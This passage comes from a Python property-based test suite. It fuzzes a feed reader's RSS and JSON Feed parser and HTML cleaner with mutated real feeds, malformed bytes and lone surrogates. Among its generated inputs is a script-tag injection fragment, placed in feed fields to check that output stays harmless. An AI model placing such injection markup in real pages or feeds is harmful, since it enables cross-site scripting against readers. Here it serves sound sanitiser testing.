                "<h2>",
                "</h2>",
                "<script>x</script>",
                "<!-- x -->",
            ),
            *("&amp;", "&lt;", "&nbsp;", "&copy", "one", " two ", "\n", "é", "&", "<", "{{ x }}"),
        ]
    ),
    max_size=20,
).map("".join)


@pytest.mark.E6
@given(PROSE | SOUP)
def test_cleaning_again_changes_nothing(text: str) -> None:
    once = content(text)
    assert content(once) == once


@given(SOUP, SOUP, SOUP)
def test_whatever_is_read_can_be_cleaned(title: str, text: str, link: str) -> None:
    document = (
        '<rss version="2.0" xml:base="http://[x/"><channel><title>Desk</title><item>'
        f"<title>{title}</title><link>{link}</link><description>{text}</description>"
        f"<guid>{link}</guid></item></channel></rss>"
    ).encode("utf-8", "replace")
    fetched = Fetched(body=document, content_type=None, address=ADDRESS)
    parsed = parse_feed(fetched)
    if isinstance(parsed, ParsedFeed):
        assert_harmless(clean_feed(parsed, fetched, full=True))


ROOT = Path(__file__).resolve().parents[3]
REAL = [
    path.read_bytes()
    for pattern in ("tests/feeds/*.xml", "samples/feeds/*")
    for path in sorted(ROOT.glob(pattern))
]
BYTES = st.one_of(
    SOUP.map(lambda text: text.encode("utf-8", "surrogatepass")),
    st.binary(max_size=8),
    st.sampled_from([b"]]>", b"<![CDATA[", b"&x;", b"&#0;", b"<item>", b"</item>", b"<entry/>"]),
)
PLACE = st.integers(0, 10**6)


def mutated(body: bytes, changes: list[tuple[int, int, bytes]]) -> bytes:
    """At each place a length is taken out and something put in; both are counted round the end."""
    for place, length, put_in in changes:
        begin = place % (len(body) + 1)
        body = body[:begin] + put_in + body[begin + length % 40 :]
    return body


@pytest.mark.B4
@pytest.mark.E6
@given(
    st.sampled_from(REAL),
    st.lists(st.tuples(PLACE, PLACE, BYTES), min_size=1, max_size=6),
    st.sampled_from([None, "text/xml", "text/xml; charset=utf-16", "application/json"]),
)
def test_whatever_becomes_of_a_real_feed_on_its_way_is_harmless_or_a_failure(
    body: bytes, changes: list[tuple[int, int, bytes]], content_type: str | None
) -> None:
    body = mutated(body, changes)
    found = parse_and_clean(
        Fetched(body=body, content_type=content_type, address=ADDRESS), full=True
    )
    if isinstance(found, Failed):
        assert found.reason.isprintable()
    else:
        assert_harmless(found)


def test_half_a_character_in_a_json_feed_hurts_nobody() -> None:
    document = (
        rb'{"version": "https://jsonfeed.org/version/1.1", "title": "\ud800", "items": [{"id": '
        rb'"\udfff", "url": "https://desk.example/\ud800", "title": "\ud800x", '
        rb'"content_html": "<a href=\"/\ud800\">x</a>", "tags": ["\ud800"], "language": "\ud800"}]}'
    )
    fetched = Fetched(body=document, content_type=None, address=ADDRESS)
    parsed = parse_feed(fetched)
    assert isinstance(parsed, ParsedFeed)
    assert_harmless(clean_feed(parsed, fetched, full=True))


def test_the_worst_sample_is_clean() -> None:
    body = ROOT / "samples" / "feeds" / "ticket-forty-two.xml"
    fetched = Fetched(body=body.read_bytes(), content_type=None, address="")
    parsed = parse_feed(fetched)
    assert isinstance(parsed, ParsedFeed)
    assert_harmless(clean_feed(parsed, fetched, full=True))
